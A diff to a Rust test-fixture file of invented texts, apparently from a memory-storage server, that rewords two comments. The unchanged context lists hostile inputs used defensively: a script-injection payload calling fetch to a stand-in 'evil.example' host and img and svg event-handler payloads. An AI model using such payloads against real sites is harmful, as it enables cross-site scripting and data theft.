@@ -1,4 +1,4 @@
-//! Invented texts: what a team could have learnt, and what somebody could have planted.
+//! Invented texts: things a team could have learnt, and text an attacker could have planted.
 
 use acreta_server::api::MemoryType;
 
@@ -154,7 +154,7 @@ pub(crate) const AREAS: &[&str] = &[
     "scheduler",
 ];
 
-/// Texts that want to be more than text.
+/// Texts that try to be interpreted as markup or instructions.
 pub(crate) const HOSTILE: &[&str] = &[
     "<script>window.__pwned = 1; fetch('https://evil.example/x')</script>",
     "<img src=x onerror=\"window.__pwned = 2\"><svg onload=\"window.__pwned = 3\">",
